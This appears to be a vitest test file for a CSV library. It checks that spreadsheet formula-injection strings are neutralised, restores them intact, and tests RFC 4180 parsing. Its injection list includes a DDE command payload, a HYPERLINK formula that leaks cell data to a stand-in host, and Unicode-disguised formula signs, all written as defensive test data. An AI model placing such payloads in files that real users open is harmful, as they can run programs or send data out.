import { describe, expect, it } from 'vitest';
import { float32Cell, textCell } from '../../../pure/csv.ts';
import { parseCsv, restoreText } from '../../support/csvText.ts';
import { seeded } from '../evaluate/seeded.ts';

async function parse(text: string, pieceLength = text.length || 1): Promise<string[][]> {
  const pieces = Array.from({ length: Math.ceil(text.length / pieceLength) }, (_, i) =>
    text.slice(i * pieceLength, (i + 1) * pieceLength),
  );
  const records: string[][] = [];
  for await (const record of parseCsv(pieces)) records.push(record);
  return records;
}

const INJECTIONS: readonly string[] = [
  '=1+1',
  '+1',
  '-1+cmd|x',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1+1',
  '\ufeff=1+1',
  '\uff1d1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://a.test?x="&A1,"ok")',
  '+cmd|x',
  '-2+3',
  '@x',
  '\uff0b1',
  '\uff0d1',
  '\uff20x',
  '  -1',
  '\u00a0=1',
  '\u200b=1',
  ' \t=1',
  '"=1+1"',
  '""=1',
  "'=1",
  "''=1",
  '"\'=1',
  ',=1',
  'a,=1',
  'a;=1',
  'a;  @x',
  'a\t=1',
  'a\n=1',
  'a\r\n=1',
  'a","=1',
  '=',
  '-',
  '\t',
  '\r\n',
  '\u3000=1',
  '\u0001=1',
  '\u2212\u0031',
  '%0A=1',
  "a;'=1",
  '=1;=2,=3\n=4',
];

/**
 * Every place at which some reader could begin a cell: the start, after a separator of any locale, after a quote, after
 * a line break.
 */
function startsOfCells(cell: string): string[] {
  return [cell, ...[...cell.matchAll(/[,;"\t\r\n]/g)].map((match) => cell.slice(match.index + 1))];
}

/** Blanks that a program may drop, then a sign that starts a formula. */
const FORMULA = /^(?:[^\S\t\r\n]|[\u200b\u0001])*[=+\-@\uff1d\uff0b\uff0d\uff20\u2212]/u;

describe('formula injection', () => {
  it(`neutralises ${INJECTIONS.length} strings and gives them back`, async () => {
    expect(new Set(INJECTIONS).size).toBe(INJECTIONS.length);
    for (const text of INJECTIONS) {
      const written = textCell(text);
      const [[before, cell, after]] = (await parse(`a,${written},b\n`)) as [[string, string, string]];
      expect([before, after], JSON.stringify(text)).toEqual(['a', 'b']);
      expect(restoreText(cell), JSON.stringify(text)).toBe(text);
      for (const start of startsOfCells(cell))
        expect(start, `${JSON.stringify(text)} as ${JSON.stringify(cell)}`).not.toMatch(FORMULA);
      expect(cell, JSON.stringify(text)).not.toMatch(/^[\t\r\n]/);
    }
  });

  it('prefixes and quotes as recommended', () => {
    expect(textCell('=1+1')).toBe('"\'=1+1"');
    expect(textCell(' =1')).toBe('"\' =1"');
    expect(textCell('a;=1')).toBe('"a;\'=1"');
  });

  it('leaves harmless text as it is', () => {
    for (const text of [
      'tench',
      'n01440764',
      'val/images/a-b_1=2+3@x.JPEG',
      '16_C11',
      'Ærøskøbing',
      '猫',
      "it's",
      "'quoted'",
      'a - b',
      '',
    ]) {
      expect(textCell(text)).toBe(text);
      expect(restoreText(text)).toBe(text);
    }
    expect(textCell('goldfish, Carassius auratus')).toBe('"goldfish, Carassius auratus"');
  });

  it('numbers stay numbers', () => {
    const next = seeded(2);
    for (let i = 0; i < 20_000; i++) {
      const value = Math.fround((next() - 0.5) * 10 ** Math.floor(next() * 60 - 30));
      expect(Math.fround(Number(float32Cell(value)))).toBe(value);
    }
    expect(float32Cell(Math.fround(0.1))).toBe('0.1');
    expect(float32Cell(NaN)).toBe('NaN');
  });
});

describe('RFC 4180', () => {
  it('round trip of random text, in pieces of any length', async () => {
    const next = seeded(11);
    const alphabet = ['a', 'b', ',', '"', '\n', '\r', ';', '\t', "'", '=', '-', ' ', 'é', '😀', '\ufeff', '+'];
    for (let round = 0; round < 400; round++) {
      const rows = Array.from({ length: 4 }, () =>
        Array.from({ length: 3 }, () =>
          Array.from({ length: Math.floor(next() * 7) }, () => alphabet[Math.floor(next() * alphabet.length)]!).join(
            '',
          ),
        ),
      );
      const text = `head,of,file\n${rows.map((row) => `${row.map(textCell).join(',')}\n`).join('')}`;
      const parsed = await parse(text, 1 + Math.floor(next() * 9));
      expect(parsed.slice(1).map((row) => row.map(restoreText))).toEqual(rows);
    }
  });

  it('reads CRLF, a byte order mark, doubled quotes and a last line without a break', async () => {
    expect(await parse('\ufeffa,b\r\n"1 ""x""\r\ny",\r\n"",z', 1)).toEqual([
      ['a', 'b'],
      ['1 "x"\r\ny', ''],
      ['', 'z'],
    ]);
    expect(await parse('')).toEqual([]);
    expect(await parse('""')).toEqual([['']]);
  });

  it('replaces NUL and broken surrogates', () => {
    expect(textCell('a\0b\ud800c')).toBe('a\ufffdb\ufffdc');
  });
});
